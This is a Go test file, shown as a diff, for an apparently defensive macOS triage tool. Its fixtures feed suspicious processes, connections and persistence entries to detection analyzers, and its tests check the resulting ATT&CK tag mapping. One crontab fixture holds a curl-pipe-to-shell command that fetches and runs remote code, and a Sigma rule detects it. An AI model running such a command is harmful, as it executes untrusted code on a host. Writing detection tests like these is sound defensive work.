@@ -0,0 +1,213 @@
+package analysis
+
+import (
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/plonxyz/triagectl/internal/attack"
+	"github.com/plonxyz/triagectl/internal/models"
+)
+
+func fixture(artifactType string, data map[string]interface{}) models.Artifact {
+	return models.Artifact{ArtifactType: artifactType, Data: data}
+}
+
+// tagFixtures are artifacts that between them fire every rule of the
+// built-in analyzers. A new rule needs a fixture here that fires it.
+func tagFixtures(yaraTarget string) []models.Artifact {
+	now := time.Now().UTC().Format(time.RFC3339)
+	risky := map[string]interface{}{"com.apple.security.get-task-allow": true}
+	arts := []models.Artifact{
+		// suspicious_process and process_tree
+		fixture("running_process", map[string]interface{}{
+			"pid": 10, "ppid": 1, "name": "Microsoft Word", "exe": "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
+		}),
+		fixture("running_process", map[string]interface{}{
+			"pid": 11, "ppid": 10, "name": "sh", "exe": "/bin/sh", "cmdline": "sh /tmp/stage.sh",
+		}),
+		fixture("running_process", map[string]interface{}{
+			"pid": 12, "ppid": 1, "name": "python", "exe": "/tmp/python", "num_connections": 2,
+		}),
+		fixture("running_process", map[string]interface{}{"pid": 13, "ppid": 1, "name": ".hidden"}),
+		fixture("running_process", map[string]interface{}{
+			"pid": 14, "ppid": 1, "name": "agent", "exe": "/Users/alice/bin/agent", "username": "root", "exe_signed": false,
+		}),
+		fixture("running_process", map[string]interface{}{
+			"pid": 15, "ppid": 1, "name": "helper", "exe": yaraTarget,
+			"exe_signed": true, "exe_adhoc_signed": true, "exe_entitlements": risky,
+		}),
+
+		// network_anomaly and the IOC matcher
+		fixture("network_connection", map[string]interface{}{"pid": 500, "remote_addr": "203.0.113.1", "remote_port": 4444}),
+		fixture("network_connection", map[string]interface{}{"pid": 500, "remote_addr": "203.0.113.2", "remote_port": 6667}),
+		fixture("network_connection", map[string]interface{}{"pid": 500, "remote_addr": "127.0.0.1", "remote_port": 9050}),
+
+		// persistence_anomaly and the baseline
+		fixture("system_launch_daemon", map[string]interface{}{
+			"label": "com.evil.daemon", "mod_time": now, "target_path": "/tmp/daemon",
+			"target_exists": false, "target_signed": false,
+		}),
+		fixture("user_launch_agent", map[string]interface{}{
+			"label": "com.known", "target_path": "/Users/Shared/agent", "target_sha256": "aaaa",
+			"target_signed": true, "target_adhoc_signed": true, "target_entitlements": risky,
+		}),
+		fixture("user_launch_agent", map[string]interface{}{
+			"label": "com.changed", "target_path": "/Users/alice/.cache/agent", "target_sha256": "bbbb",
+		}),
+		fixture("system_launch_agent", map[string]interface{}{
+			"label": "com.apple.fake", "target_path": "/Users/alice/bin/agent",
+		}),
+		fixture("user_crontab", map[string]interface{}{"entry": "* * * * * curl -s http://x | sh /tmp/y"}),
+		fixture("login_item_btm", map[string]interface{}{
+			"path": "/tmp/item", "enabled": true, "team_id": "", "identifier": "com.example.item",
+			"launchd_target": "/Library/LaunchAgents/x.plist", "launchd_target_exists": false,
+		}),
+		fixture("login_item_btm", map[string]interface{}{"path": "/Users/Shared/item"}),
+		fixture("login_item_backgrounditems", map[string]interface{}{"path": "/Users/alice/.config/item"}),
+		fixture("library_extension", map[string]interface{}{"mod_time": now, "executable_signed": false}),
+		fixture("library_extension", map[string]interface{}{
+			"executable_signed": true, "executable_adhoc_signed": true, "executable_entitlements": risky,
+		}),
+	}
+	// Enough connections from one process to count as many
+	for i := 0; i <= 50; i++ {
+		arts = append(arts, fixture("network_connection", map[string]interface{}{"pid": 501, "remote_addr": "127.0.0.1", "remote_port": 80}))
+	}
+	return arts
+}
+
+// TestTagsMapped runs every analyzer over fixtures and checks that each tag
+// they emit is either mapped to techniques or explicitly left unmapped in
+// the built-in ATT&CK mapping
+func TestTagsMapped(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, content string) string {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+
+	yaraTarget := write("helper", "MARKER")
+	artifacts := tagFixtures(yaraTarget)
+
+	baseline := NewBaseline()
+	baseline.AddArtifacts("golden", []models.Artifact{
+		fixture("user_launch_agent", map[string]interface{}{"label": "com.known", "target_sha256": "aaaa"}),
+		fixture("user_launch_agent", map[string]interface{}{"label": "com.changed", "target_sha256": "cccc"}),
+	})
+	baselinePath := filepath.Join(dir, "baseline.json")
+	if err := baseline.Save(baselinePath); err != nil {
+		t.Fatal(err)
+	}
+
+	baselineAnalyzer, err := NewBaselineAnalyzer(baselinePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	iocMatcher, err := NewIOCMatcher(write("misp.json", `{"Event": {"info": "Campaign", "Orgc": {"name": "CERT"},
+		"Attribute": [{"type": "ip-dst", "value": "203.0.113.1", "to_ids": true}]}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	sigmaAnalyzer, err := NewSigmaAnalyzer(write("rule.yml", `
+title: Curl Pipe
+id: 0a1b
+level: high
+tags: [attack.execution, attack.t1059.004]
+logsource: {category: cron}
+detection:
+  sel: {CommandLine|contains: curl}
+  condition: sel
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	yaraAnalyzer, err := NewYaraAnalyzer(write("rules.yar", `rule Marker : macos { strings: $a = "MARKER" condition: $a }`), "")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	pipeline := []Analyzer{
+		&SuspiciousProcessAnalyzer{},
+		&ProcessTreeAnalyzer{},
+		&NetworkAnomalyAnalyzer{},
+		&PersistenceAnomalyAnalyzer{},
+		iocMatcher,
+		sigmaAnalyzer,
+		baselineAnalyzer,
+		yaraAnalyzer,
+	}
+
+	m := attack.Default()
+	seen := make(map[string]bool)
+	for _, a := range pipeline {
+		artifacts = a.Analyze(artifacts)
+
+		var emitted []string
+		for _, art := range artifacts {
+			for _, tag := range art.Tags {
+				if !seen[tag] {
+					seen[tag] = true
+					emitted = append(emitted, tag)
+				}
+			}
+		}
+		if len(emitted) == 0 {
+			t.Errorf("%s: the fixtures fire no rule", a.Name())
+		}
+		sort.Strings(emitted)
+		t.Logf("%s: %s", a.Name(), strings.Join(emitted, " "))
+
+		for _, tag := range emitted {
+			if !tagMapped(m, tag) {
+				t.Errorf("%s: tag %q is neither mapped nor left unmapped in mapping.yaml", a.Name(), tag)
+			}
+		}
+	}
+}
+
+// tagMapped reports whether the mapping has an entry for a tag or its
+// prefix before the first colon. Sigma's attack.* tags name their
+// technique or tactic themselves.
+func tagMapped(m *attack.Mapping, tag string) bool {
+	if strings.HasPrefix(tag, "attack.") {
+		return true
+	}
+	if _, ok := m.Tags[tag]; ok {
+		return true
+	}
+	if i := strings.IndexByte(tag, ':'); i > 0 {
+		_, ok := m.Tags[tag[:i]]
+		return ok
+	}
+	return false
+}
+
+func TestMapTechniques(t *testing.T) {
+	tests := []struct {
+		name  string
+		score int
+		tags  []string
+		want  []string
+	}{
+		{"finding gets the type's technique", 50, []string{"recently_modified"}, []string{"T1543.001"}},
+		{"baseline points alone do not", 15, []string{"baseline_absent"}, nil},
+		{"mapped tag below finding score", 15, []string{"suspicious_name:osascript"}, []string{"T1059.002"}},
+		{"unscored", 0, nil, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			arts := []models.Artifact{{ArtifactType: "user_launch_agent", RiskScore: tt.score, Tags: tt.tags}}
+			MapTechniques(arts)
+			if strings.Join(arts[0].Techniques, ",") != strings.Join(tt.want, ",") {
+				t.Errorf("techniques = %v, want %v", arts[0].Techniques, tt.want)
+			}
+		})
+	}
+}